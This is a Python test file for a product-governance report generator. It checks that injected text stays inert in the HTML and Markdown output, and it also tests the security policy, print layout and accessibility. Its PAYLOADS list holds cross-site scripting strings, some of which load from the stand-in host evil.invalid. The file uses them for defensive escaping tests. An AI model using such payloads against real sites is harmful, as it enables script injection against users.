"""The report: what it says, how it is built, and that no text of a document is more than text in it."""

import json
import re
from collections.abc import Iterator
from copy import deepcopy
from datetime import date
from functools import cache
from itertools import pairwise
from pathlib import Path
from typing import cast

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from productgov import (
    InvalidValueError,
    Omitted,
    ProductGovernance,
    Report,
    Severity,
    UnknownFormatError,
    from_dict,
    parse,
    rank,
)
from productgov.codec.quick.from_data import try_build
from productgov.strategies import governances
from productgov.views import ReportPage, board_markdown, report
from productgov.views.blocks import Paragraph
from productgov.views.pages.checked import finding_blocks
from productgov.views.pages.order import simulation_of
from tests.support.browser import needs_browser, page_in_browser
from tests.support.examples import document_with
from tests.support.governances import governance
from tests.support.initiatives import backlog, ice, item, rice
from tests.support.markup import Markup, parsed
from tests.support.node import module, needs_node
from tests.support.project import ROOT

pytestmark = pytest.mark.once

DAY = date(2026, 9, 10)
"""A day on which something of the example is late, slipped and behind."""
TAGS = frozenset(
    "html head meta title style body header nav main section h1 h2 h3 p ul li a div strong small span table thead tbody"  # noqa: SIM905
    " tr th td figure svg desc g line rect circle polygon polyline path text".split()
)
"""The elements of a report. There is no script among them, and nothing that loads or embeds anything."""
PAYLOADS = (
    "<script>document.title='PWNED'</script>",
    '"><img src=http://evil.invalid/x onerror="document.title=\'PWNED\'">',
    "javascript:alert(1)",
    "</style></svg></title><script src=http://evil.invalid/y></script>",
    "' onmouseover='alert(1)",
    "<link rel=stylesheet href=http://evil.invalid/z>@import url(http://evil.invalid/a);",
    "-->]]>&lt;{{7*7}}`${1}`",
)
Path_ = tuple[str | int, ...]


def example() -> dict[str, object]:
    """The example document in JSON, as plain data."""
    text = (ROOT / "examples" / "platform.json").read_text(encoding="utf-8")
    return cast(dict[str, object], json.loads(text))


@cache
def example_page() -> ReportPage:
    """The report about the example."""
    return report(from_dict(example()), as_of=DAY)


def texts_in(data: object, path: Path_ = ()) -> Iterator[tuple[Path_, str]]:
    """Every text of plain data, with its path."""
    if isinstance(data, str):
        yield path, data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from texts_in(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from texts_in(value, (*path, index))


def replaced(data: dict[str, object], path: Path_, text: str) -> None:
    """Put a text into plain data."""
    *parents, last = path
    within: object = data
    for step in parents:
        within = within[step]  # type: ignore[index]
    within[last] = text  # type: ignore[index]


@cache
def free_texts() -> tuple[tuple[Path_, str], ...]:
    """The texts of the example that can be any text: neither an id, nor a date, nor a term."""
    found, data = [], example()
    for path, text in texts_in(example()):
        replaced(data, path, f"{text} <")
        if try_build(data, ProductGovernance) is not None:
            found.append((path, text))
        replaced(data, path, text)
    return tuple(found)


def injected(payload: str) -> ProductGovernance:
    """The example with a payload after every text that can be any text; references stay together."""
    data = deepcopy(example())
    for path, text in free_texts():
        replaced(data, path, f"{text} {payload}")
    return from_dict(data)


def assert_inert(page: str) -> Markup:
    """No element of a page can load or run anything, or lead out of it."""
    markup = parsed(page)
    for tag in markup.tags:
        assert tag.name in TAGS
        for name, value in tag.attributes.items():
            assert not name.startswith("on")
            assert name not in ("src", "srcset", "data", "action", "formaction", "xlink:href", "ping", "background")
            assert name != "href" or value.startswith("#")
            assert name != "style" or value == "max-width:100%;height:auto"
    return markup


def test_the_example_has_free_texts_everywhere() -> None:
    places = {path[0] for path, _ in free_texts()}
    assert {"name", "productVision", "roadmap", "metrics", "reviews", "objectives", "teams", "decisions"} <= places
    assert len(free_texts()) > 100


@pytest.mark.parametrize("payload", [" ".join(PAYLOADS), "".join(reversed(PAYLOADS))])
def test_what_is_injected_into_every_text_is_text(payload: str) -> None:
    subject = injected(payload)
    page = report(subject, as_of=DAY)
    plain = assert_inert(example_page().html)
    markup = assert_inert(page.html)
    assert [tag.name for tag in markup.named("section", "h1", "h2", "table", "nav")] == [
        tag.name for tag in plain.named("section", "h1", "h2", "table", "nav")
    ]
    assert payload in " ".join(markup.texts)
    assert "<script" not in page.markdown
    assert "<img" not in page.markdown
    assert "<link" not in page.markdown


@given(governances() | governances(consistent=False), st.lists(st.sampled_from(PAYLOADS), max_size=3).map("".join))
def test_no_governance_makes_more_than_text(subject: ProductGovernance, payload: str) -> None:
    vision = attrs.evolve(subject.product_vision, mission=f"m{payload}")
    page = report(attrs.evolve(subject, product_vision=vision), as_of=date(2026, 3, 2))
    assert_inert(page.html)
    assert page.html.count("<h1>") == 1


def test_the_page_forbids_scripts_and_the_network() -> None:
    markup = parsed(example_page().html)
    (policy,) = [tag for tag in markup.named("meta") if tag.attributes.get("http-equiv") == "Content-Security-Policy"]
    rules = dict(part.strip().split(" ", 1) for part in policy.attributes["content"].split(";"))
    assert rules.pop("default-src") == "'none'"
    assert {name: value for name, value in rules.items() if value != "'none'"} == {
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
    }
    assert markup.named("meta").index(policy) == 1  # before anything that it is about


def test_the_page_is_made_for_a4_and_keeps_what_belongs_together() -> None:
    (style,) = re.findall(r"<style>([^<]*@page[^<]*)</style>", example_page().html)
    assert "@page{size:A4;margin:15mm}" in style
    assert "break-inside:avoid" in style
    assert "@media print{nav{display:none}" in style


def test_the_page_has_landmarks_headings_in_order_and_heads_of_tables() -> None:
    markup = parsed(example_page().html)
    (html,) = markup.named("html")
    assert html.attributes["lang"] == "en"
    for landmark in ("header", "nav", "main"):
        assert len(markup.named(landmark)) == 1
    levels = [int(tag.name[1]) for tag in markup.named("h1", "h2", "h3")]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert all(tag.attributes["scope"] in ("col", "row") for tag in markup.named("th"))
    ids = [tag.attributes["id"] for tag in markup.tags if "id" in tag.attributes]
    assert len(ids) == len(set(ids))
    assert {tag.attributes["href"][1:] for tag in markup.named("a")} <= set(ids)
    assert {tag.attributes["aria-labelledby"] for tag in markup.named("section")} <= set(ids)
    assert all(tag.attributes["role"] == "img" and tag.attributes["aria-label"] for tag in markup.named("svg"))


def test_the_sections_are_those_that_a_leadership_team_reads() -> None:
    titles = re.findall("(?m)^## (.+)$", example_page().markdown)
    assert titles == [
        "At a glance",
        "Roadmap",
        "Ranking",
        "Objectives",
        "Metrics",
        "Teams",
        "Dependencies",
        "Decisions",
        "Reviews, and what is next",
        "Findings",
    ]


def test_a_document_shows_the_lines_of_its_findings() -> None:
    text = (ROOT / "examples" / "platform.json").read_text(encoding="utf-8")
    page = report(parse(text, format="json", name="plans/platform.json"), as_of=DAY)
    assert "from platform.json" in page.html
    assert "<p>As of 2026-09-10.</p>" in report(parse(text, format="json"), as_of=DAY).html
    assert "<p>As of 2026-09-10.</p>" in report(parse(text, format="json", name="-"), as_of=DAY).html
    assert re.search("<td>platform.json:[0-9]+:[0-9]+</td>", page.html)
    assert report(from_dict(example()), as_of=DAY, select="PG205").html.count("<td>PG205</td>") > 0
    assert "PG205" not in report(from_dict(example()), as_of=DAY, ignore="PG205").html
    with pytest.raises(InvalidValueError):
        report(from_dict(example()), select="XX")


def test_a_small_governance_has_a_small_page() -> None:
    page = report(governance(name=None))
    assert repr(page) == "<ReportPage Product governance on 2026-03-01>"
    assert str(page) == page.markdown
    assert page.markdown.startswith("# Product governance\n\nAs of 2026-03-01.\n")
    assert "Nothing is late, at risk, behind or off track." in page.markdown
    assert "No day is set for anything in the next 92 days." in page.markdown
    assert "How sure the order is" not in page.markdown
    assert page._repr_mimebundle_() == {"text/plain": repr(page), "text/markdown": page.markdown}
    assert page._repr_mimebundle_(include={"text/plain"}) == {"text/plain": repr(page)}
    assert page._repr_mimebundle_(exclude={"text/plain"}) == {"text/markdown": page.markdown}


def large() -> ProductGovernance:
    """A governance with more of everything than a page shows."""
    scored = {"scoring": {"rice": {"reach": 100, "impact": 1, "confidence": 1, "effort": 1}}}
    now = [{"id": f"item-{number}", "title": f"Item {number}", **scored} for number in range(30)]
    goals = [{"id": f"goal-{number}", "title": f"Goal {number}", "period": "2026-Q1"} for number in range(30)]
    kpis = [{"id": f"kpi-{number}", "name": f"Metric {number}", "target": {"value": 3}} for number in range(30)]
    others = [{"id": f"other-{number}", "title": "Other", "expectedDate": "2026-03-10"} for number in range(30)]
    unscored = [{"id": f"bare-{number}", "title": f"Bare {number}"} for number in range(30)]
    return document_with(
        {
            "roadmap": {"timeHorizon": {"now": now, "later": unscored}, "externals": others},
            "objectives": goals,
            "metrics": {"inputMetrics": kpis},
            "productVision": {"strategicPillars": ["Calm", "Nobody's"]},
            "teams": [{"id": "blue", "name": "Blue"}],
        }
    ).governance


def test_long_lists_are_cut_and_say_how_many_more_there_are() -> None:
    page = report(large(), as_of=date(2026, 3, 2))
    assert "and 21 more</p>" in page.html  # of 31 cards in now
    assert "and 12 more</p>" in page.html  # of 32 rows of the ranking
    assert "and 10 more objectives" in page.markdown
    assert "and 12 more" in page.markdown  # what is not ranked
    assert page.markdown.count("Other | expected") == 20
    assert "| blue | Blue | 0 person-months |" in page.markdown
    assert len(page.html) < 300_000
    full = board_markdown(large(), as_of=date(2026, 3, 2), sections=("roadmap", "trace"))
    assert full.count("\n| item-") == 30
    assert "### Nobody's\n\nno initiative serves it" in full


def test_the_order_is_drawn_as_often_as_takes_bounded_time() -> None:
    def drawn(count: int) -> int:
        items = tuple(item(f"i{number}", rice=rice(number + 1, 1, 1, 1)) for number in range(count))
        simulation = simulation_of(rank(backlog(*items)))
        return simulation.sampling.draws if simulation else 0

    assert [drawn(count) for count in (0, 1, 2_001)] == [0, 2_000, 0]
    assert drawn(400) == 500
    assert simulation_of(rank(backlog(item("a", ice=ice(1, 2, 3))), method="ICE")) is None


def test_findings_that_were_only_counted_are_said() -> None:
    report = Report(omitted=(Omitted(code="PG206", severity=Severity.INFO, count=3),), as_of=DAY)
    assert list(finding_blocks(report, "a.json", 20)) == [
        Paragraph("3 infos."),
        Paragraph("a.json: 3 more infos of PG206, counted but not listed"),
    ]


@pytest.mark.parametrize(("name", "begins"), [("a.html", "<!doctype"), ("a.HTM", "<!doctype"), ("a.md", "# Tempo\n")])
def test_a_page_is_saved_in_the_format_of_its_ending(name: str, begins: str, tmp_path: Path) -> None:
    page: ReportPage = report(governance())
    page.save(tmp_path / name)
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert text.startswith(begins)
    assert text.endswith("\n")
    with pytest.raises(UnknownFormatError, match=r"must end in \.html, \.htm, \.md or \.markdown"):
        page.save(tmp_path / "a.pdf")
    assert [file.name for file in tmp_path.iterdir()] == [name]


@needs_browser
def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(tmp_path: Path) -> None:
    payload = " ".join(PAYLOADS)
    safe, unsafe = tmp_path / "safe.html", tmp_path / "unsafe.html"
    safe.write_text(report(injected(payload), as_of=DAY).html, encoding="utf-8")
    unsafe.write_text(f"<!doctype html><title>x</title>{PAYLOADS[1]}", encoding="utf-8")
    # The first shows that this test would see it.
    dom, network = page_in_browser(unsafe, tmp_path / "a")
    assert "<title>PWNED</title>" in dom
    assert "evil.invalid" in network
    dom, network = page_in_browser(safe, tmp_path / "b")
    assert "<title>PWNED" not in dom
    assert_inert(dom)
    assert "evil.invalid" not in network


AXE = """
<pre id="violations"></pre><script>
axe.run({runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}).then(result => {
  const places = each => each.nodes.map(node => node.html.slice(0, 200)).join(" | ");
  const found = result.violations.map(each => each.id + ": " + places(each));
  document.getElementById("violations").textContent = JSON.stringify({
    dark: matchMedia("(prefers-color-scheme: dark)").matches, passes: result.passes.length, found
  });
});
</script>
"""


@needs_browser
@needs_node
def test_contrast_and_structure_pass_axe_in_light_and_dark(tmp_path: Path) -> None:
    if not module("axe-core").exists():
        pytest.skip("axe-core is not here")
    html = example_page().html
    library = module("axe-core", "axe.min.js").read_text(encoding="utf-8")
    page = tmp_path / "page.html"
    # A copy without the policy, which would not let axe run either.
    open_html = re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    page.write_text(open_html.replace("</body>", f"<script>{library}</script>{AXE}</body>"), encoding="utf-8")
    for scheme in (1, 0):
        option = f"--blink-settings=preferredColorScheme={scheme}"
        dom, _ = page_in_browser(page, tmp_path / str(scheme), option, "--virtual-time-budget=20000")
        result = json.loads(parsed_text(dom))
        assert result["dark"] is (scheme == 0)
        assert result["passes"] > 20
        assert result["found"] == []


def parsed_text(dom: str) -> str:
    """What axe has written into the page."""
    found = re.search('<pre id="violations">(.*?)</pre>', dom, re.DOTALL)
    assert found
    return found[1].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
